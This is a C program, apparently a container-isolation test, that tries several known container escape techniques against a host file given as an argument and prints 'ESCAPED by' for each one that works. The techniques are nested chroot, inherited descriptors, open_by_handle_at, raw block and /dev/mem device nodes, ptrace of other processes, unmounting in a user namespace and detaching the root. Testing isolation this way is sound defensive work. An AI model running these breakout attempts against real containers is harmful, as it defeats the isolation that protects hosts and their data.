// Tries to reach a file of the host, named by its path, from inside of a container. Prints ESCAPED and how for what succeeds.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *secret;

static void look(const char *how) {
    char relative[4096];
    snprintf(relative, sizeof relative, ".%s", secret);
    if (access(secret, F_OK) == 0 || access(relative, F_OK) == 0) printf("ESCAPED by %s\n", how);
}

static void each(const char *how, void (*attempt)(void)) {
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        alarm(20);
        attempt();
        look(how);
        fflush(stdout);
        _exit(0);
    }
    waitpid(child, 0, 0);
}

static void climb(void) { for (int i = 0; i < 200; i++) if (chdir("..")) break; }

static void nested_chroot(void) {
    mkdir("/tmp/jail", 0755);
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp/jail") == 0) {
        if (outside >= 0 && fchdir(outside)) return;
        climb();
        if (chroot(".")) return;
    }
}

static void descriptors(void) {
    for (int i = 3; i < 256; i++) {
        if (fchdir(i) == 0) { climb(); look("an inherited descriptor"); }
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d/..", i);
        if (chdir(path) == 0) { climb(); look("the parent of a descriptor"); }
    }
}

static void by_handle(void) {
    int mount = open("/", O_RDONLY);
    for (unsigned inode = 1; inode < 4; inode++) {
        struct { struct file_handle handle; unsigned inode, generation; } at = {{8, 1}, inode, 0};
        int file = open_by_handle_at(mount, &at.handle, O_RDONLY | O_DIRECTORY);
        if (file >= 0 && fchdir(file) == 0) look("a file handle");
    }
}

static void device_nodes(void) {
    for (unsigned major = 1; major < 260; major++) {
        if (mknod("/tmp/disk", S_IFBLK | 0600, makedev(major, 0)) != 0) continue;
        int disk = open("/tmp/disk", O_RDONLY);
        if (disk >= 0) printf("ESCAPED by block device %u\n", major);
        unlink("/tmp/disk");
    }
    if (mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)) == 0) {
        if (open("/tmp/mem", O_RDWR) >= 0) printf("ESCAPED by /dev/mem\n");
        unlink("/tmp/mem");
    }
}

static void other_processes(void) {
    // The only processes in sight are the container's own: the first one is this program's parent.
    for (int pid = 2; pid < 5000; pid++)
        if (pid != getpid() && pid != getppid() && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) printf("ESCAPED: ptrace of %d\n", pid);
    chdir("/proc/1/root");
    climb();
}

static void user_namespace(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return;
    // What was mounted read-only or over something stays so for a lesser user namespace.
    if (mount(0, "/proc/sys", 0, MS_REMOUNT | MS_BIND, 0) == 0) printf("ESCAPED: read-only path made writable\n");
    if (umount("/proc/sys") == 0) printf("ESCAPED: read-only path uncovered\n");
    if (umount("/proc/kcore") == 0) printf("ESCAPED: masked path uncovered\n");
    climb();
}

static void old_root(void) {
    if (umount2("/", MNT_DETACH) == 0) climb();
    if (chdir("/") == 0) climb();
}

int main(int count, char **arguments) {
    secret = count > 1 ? arguments[1] : "/etc/host";
    each("nothing", climb);
    each("nested chroot", nested_chroot);
    each("descriptors", descriptors);
    each("open_by_handle_at", by_handle);
    each("device nodes", device_nodes);
    each("other processes", other_processes);
    each("a user namespace", user_namespace);
    each("unmounting the root", old_root);
    return 0;
}
